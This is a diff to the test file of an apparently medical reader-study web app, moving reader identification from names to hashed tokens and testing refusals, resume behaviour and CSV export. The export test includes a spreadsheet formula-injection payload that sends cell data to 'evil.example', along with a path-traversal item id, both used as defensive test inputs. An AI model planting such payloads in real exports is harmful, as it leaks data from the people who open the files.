@@ -60,8 +60,13 @@ def client(run_dir):
         yield c
 
 
-def answer(client, reader, item, visibility=3, artery="LCA", stenosis="no", **extra):
-    body = {"reader": reader, "item": item, "visibility": visibility, "artery": artery, "stenosis": stenosis}
+def reader_token(run_dir, name: str) -> str:
+    """Register a reader (as 'medcloak readers add' does) and return their token."""
+    return AnswerDB(run_dir / "readers" / "answers.sqlite").add_reader(name)
+
+
+def answer(client, token, item, visibility=3, artery="LCA", stenosis="no", **extra):
+    body = {"token": token, "item": item, "visibility": visibility, "artery": artery, "stenosis": stenosis}
     body.update(extra)
     return client.post("/api/answer", json=body)
 
@@ -140,14 +145,15 @@ def test_missing_items_is_a_clear_error(tmp_path):
 def test_blinded_responses_never_name_the_condition(client, run_dir):
     items = read_reader_items(run_dir)
     page = client.get("/").text + client.get("/app.js").text + client.get("/app.css").text
-    bodies = [client.post("/api/start", json={"name": "Blind"}).text]
+    tok = reader_token(run_dir, "Blind")
+    bodies = [client.post("/api/start", json={"token": tok}).text]
     state = json.loads(bodies[0])
     for _ in range(5):
-        r = answer(client, "Blind", state["item"]["id"])
+        r = answer(client, tok, state["item"]["id"])
         bodies.append(r.text)
         state = r.json()
         assert set(state) == {"reader", "total", "done", "item"} and set(state["item"]) == {"id", "image"}
-    bodies.append(client.get("/api/next", params={"reader": "Blind"}).text)
+    bodies.append(client.get("/api/next", headers={"X-Reader-Token": tok}).text)
     for text in bodies + [page]:
         for cond in CONDITIONS:
             assert cond not in text
@@ -169,30 +175,32 @@ def test_security_headers_and_no_external_resources(client):
 
 
 def test_refusals_are_4xx_with_a_clear_json_message(client, run_dir):
-    first = client.post("/api/start", json={"name": "Ann"}).json()["item"]["id"]
+    ann = reader_token(run_dir, "Ann")
+    first = client.post("/api/start", json={"token": ann}).json()["item"]["id"]
     cases = [
-        (answer(client, "Ann", "0123456789ab"), 404, "unknown item id"),
-        (answer(client, "Ann", "../items.csv"), 404, "unknown item id"),
-        (answer(client, "Nobody", first), 404, "unknown reader"),
-        (answer(client, "Ann", first, visibility=0), 422, "visibility"),
-        (answer(client, "Ann", first, visibility=6), 422, "visibility"),
-        (answer(client, "Ann", first, visibility="3"), 422, "visibility"),
-        (answer(client, "Ann", first, visibility=True), 422, "visibility"),
-        (answer(client, "Ann", first, visibility=2.5), 422, "visibility"),
-        (answer(client, "Ann", first, artery="LAD"), 422, "artery"),
-        (answer(client, "Ann", first, stenosis="maybe"), 422, "stenosis"),
-        (answer(client, "Ann", first, condition="original"), 422, "condition"),
-        (client.post("/api/start", json={"name": "   "}), 422, "name"),
-        (client.post("/api/start", json={"name": "x" * 65}), 422, "name"),
-        (client.get("/api/next", params={"reader": "Nobody"}), 404, "unknown reader"),
+        (answer(client, ann, "0123456789ab"), 404, "unknown item id"),
+        (answer(client, ann, "../items.csv"), 404, "unknown item id"),
+        (answer(client, "not-a-reader-token", first), 401, "unknown reader token"),
+        (answer(client, ann, first, visibility=0), 422, "visibility"),
+        (answer(client, ann, first, visibility=6), 422, "visibility"),
+        (answer(client, ann, first, visibility="3"), 422, "visibility"),
+        (answer(client, ann, first, visibility=True), 422, "visibility"),
+        (answer(client, ann, first, visibility=2.5), 422, "visibility"),
+        (answer(client, ann, first, artery="LAD"), 422, "artery"),
+        (answer(client, ann, first, stenosis="maybe"), 422, "stenosis"),
+        (answer(client, ann, first, condition="original"), 422, "condition"),
+        (client.post("/api/start", json={"name": "Ann"}), 422, "token"),  # a name alone opens nothing
+        (client.post("/api/start", json={"token": "x" * 257}), 422, "token"),
+        (client.post("/api/start", json={"token": "   "}), 401, "unknown reader token"),
+        (client.get("/api/next", params={"reader": "Ann"}), 401, "unknown reader token"),
     ]
     for r, status, word in cases:
         assert r.status_code == status, (r.request.content, r.text)
         msg = r.json()["error"]
         assert word in msg and "\n" not in msg
     assert n_answers(run_dir) == 0
-    assert answer(client, "Ann", first).status_code == 200
-    dup = answer(client, "ann", first, visibility=5)  # same reader, other case: still a duplicate
+    assert answer(client, ann, first).status_code == 200
+    dup = answer(client, ann, first, visibility=5)  # answers are never overwritten
     assert dup.status_code == 409 and "already answered" in dup.json()["error"]
     assert n_answers(run_dir) == 1
     con = sqlite3.connect(run_dir / "readers" / "answers.sqlite")
@@ -277,7 +285,8 @@ def test_order_is_a_per_reader_permutation_and_resumes_after_restart(run_dir):
     ids = [it.id for it in read_reader_items(run_dir)]
     with TestClient(create_app(run_dir)) as c:
         run = c.app.state.run_id
-        first = c.post("/api/start", json={"name": "Bo"}).json()
+        bo, cy = reader_token(run_dir, "Bo"), reader_token(run_dir, "Cy")
+        first = c.post("/api/start", json={"token": bo}).json()
         order = reader_order("Bo", run, ids)
         assert sorted(order) == sorted(ids) and order != sorted(ids)
         assert reader_order("Cy", run, ids) != order and reader_order("Bo", "other-run", ids) != order
@@ -285,30 +294,32 @@ def test_order_is_a_per_reader_permutation_and_resumes_after_restart(run_dir):
         state = first
         for k in range(3):
             assert state["item"]["id"] == order[k]
-            state = answer(c, "Bo", state["item"]["id"], visibility=k + 1).json()
+            state = answer(c, bo, state["item"]["id"], visibility=k + 1).json()
         assert state["done"] == 3 and state["item"]["id"] == order[3]
-    # a new server process (same run dir) resumes the same reader at item 4, name case-insensitively
+    # a new server process (same run dir) resumes the same reader at item 4 (by their token)
     with TestClient(create_app(run_dir)) as c:
-        again = c.post("/api/start", json={"name": "  bo "}).json()
+        again = c.post("/api/start", json={"token": bo}).json()
         assert again["reader"] == "Bo" and again["done"] == 3 and again["item"]["id"] == order[3]
-        other = c.post("/api/start", json={"name": "Cy"}).json()
+        other = c.post("/api/start", json={"token": cy}).json()
         assert other["done"] == 0 and other["item"]["id"] == reader_order("Cy", run, ids)[0]
 
 
 def test_answer_is_committed_before_the_response(client, run_dir):
-    item = client.post("/api/start", json={"name": "Di"}).json()["item"]["id"]
-    assert answer(client, "Di", item).status_code == 200
+    di = reader_token(run_dir, "Di")
+    item = client.post("/api/start", json={"token": di}).json()["item"]["id"]
+    assert answer(client, di, item).status_code == 200
     assert n_answers(run_dir) == 1  # a separate connection already sees it
 
 
-def test_finishing_all_items(client):
-    state = client.post("/api/start", json={"name": "Ed"}).json()
+def test_finishing_all_items(client, run_dir):
+    ed = reader_token(run_dir, "Ed")
+    state = client.post("/api/start", json={"token": ed}).json()
     last = state["item"]["id"]
     while state["item"] is not None:
         last = state["item"]["id"]
-        state = answer(client, "Ed", last).json()
+        state = answer(client, ed, last).json()
     assert state == {"reader": "Ed", "total": 2 * N, "done": 2 * N, "item": None}
-    assert answer(client, "Ed", last).status_code == 409
+    assert answer(client, ed, last).status_code == 409
 
 
 # --------------------------------------------------------------------------- statistics
@@ -452,3 +463,54 @@ def test_cli_export_and_serve_errors(run_dir, tmp_path_factory, capsys):
     empty = tmp_path_factory.mktemp("empty")
     assert main(["readers", "serve", str(empty)]) == 2
     assert "items.csv" in capsys.readouterr().err
+
+
+# --------------------------------------------------------------------------- tokens, export cells
+
+
+def test_reader_tokens_protect_sessions_and_names_do_not_leak(run_dir, capsys):
+    from medcloak.cli import main
+
+    assert main(["readers", "add", str(run_dir), "Dr A"]) == 0
+    token = capsys.readouterr().out.strip()
+    assert len(token) >= 20
+    assert main(["readers", "add", str(run_dir), "dr a"]) == 2  # names are case-insensitive: no second "Dr A"
+    assert "exists already" in capsys.readouterr().err
+    with TestClient(create_app(run_dir)) as c:
+        # nothing tells an outsider whether a name exists
+        known = c.get("/api/next", params={"reader": "Dr A"})
+        unknown = c.get("/api/next", params={"reader": "Nobody"})
+        assert known.status_code == unknown.status_code == 401 and known.json() == unknown.json()
+        assert c.post("/api/start", json={"token": "dr a"}).status_code == 401
+        state = c.post("/api/start", json={"token": token}).json()
+        assert state["reader"] == "Dr A"
+        assert answer(c, token, state["item"]["id"]).status_code == 200
+        # continuing another reader's session needs their token, not their name
+        r = answer(c, "Dr A", state["item"]["id"])
+        assert r.status_code == 401 and n_answers(run_dir) == 1
+        assert c.get("/api/next", headers={"X-Reader-Token": token}).json()["done"] == 1
+    # a new token replaces the old one
+    assert main(["readers", "add", str(run_dir), "Dr A", "--new-token"]) == 0
+    fresh = capsys.readouterr().out.strip()
+    with TestClient(create_app(run_dir)) as c:
+        assert c.post("/api/start", json={"token": token}).status_code == 401
+        assert c.post("/api/start", json={"token": fresh}).json()["done"] == 1
+    con = sqlite3.connect(run_dir / "readers" / "answers.sqlite")
+    stored = [r[0] for r in con.execute("SELECT token_sha256 FROM readers")]
+    con.close()
+    assert fresh not in "".join(stored) and token not in "".join(stored)  # only hashes are stored
+
+
+def test_export_escapes_formula_cells(run_dir):
+    db = AnswerDB(run_dir / "readers" / "answers.sqlite")
+    items = [it.id for it in read_reader_items(run_dir)]
+    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3", "@SUM(A1)", "Dr Plain"]
+    for k, name in enumerate(names):
+        rid, _ = db.reader(name)
+        db.add_answer(rid, items[k], visibility=3, artery="LCA", stenosis="no")
+    export_answers(run_dir)
+    rows = list(csv.DictReader(io.StringIO((run_dir / "readers" / "answers.csv").read_text(encoding="utf-8"))))
+    got = sorted(r["reader"] for r in rows)
+    assert got == sorted(["'" + n for n in names[:4]] + ["Dr Plain"])
+    assert all(not r["reader"].startswith(("=", "+", "-", "@", "\t")) for r in rows)
+    assert all(r["visibility"] == "3" for r in rows)  # numbers are left alone
